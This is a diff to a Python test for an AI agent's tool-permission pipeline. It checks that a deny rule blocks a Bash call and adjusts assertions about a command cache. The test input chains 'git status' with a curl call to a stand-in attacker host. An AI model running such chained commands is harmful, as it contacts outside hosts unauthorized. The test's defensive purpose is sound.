@@ -130,11 +130,11 @@ def test_the_pipeline_reads_bash_commands_through_the_governance_cache() -> None
     call: JsonValue = {"command": "git status && curl evil.example"}
     verdict = asyncio.run(authorize(ctx, "Bash", call, ToolEffect.SIDE_EFFECT))
     assert not verdict.allowed and verdict.step == "deny_rule"
-    assert len(cache) == 1
+    assert len(cache) == 0  # read once: not kept
     asyncio.run(
         authorize(ctx.with_permission_mode(PermissionMode.PLAN), "Bash", call, ToolEffect.SIDE_EFFECT)
     )
-    assert len(cache) == 1  # the copy shares it: the command was read once
+    assert len(cache) == 1  # the copy shares it: its second reading is kept
 
 
 def test_ephemeral_contexts_share_the_default_until_the_environment_changes(
